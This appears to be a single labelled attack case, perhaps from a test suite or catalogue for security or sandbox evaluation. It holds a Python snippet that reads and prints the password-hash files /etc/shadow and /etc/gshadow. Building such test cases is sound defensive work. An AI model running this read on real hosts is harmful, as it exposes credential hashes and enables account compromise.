# attack: read_etc_shadow
# category: host_secrets
# kind: secret_read
# describe: password hashes
for p in ("/etc/shadow", "/etc/gshadow"):
    try:
        print(open(p).read())
    except OSError as e:
        print(e)
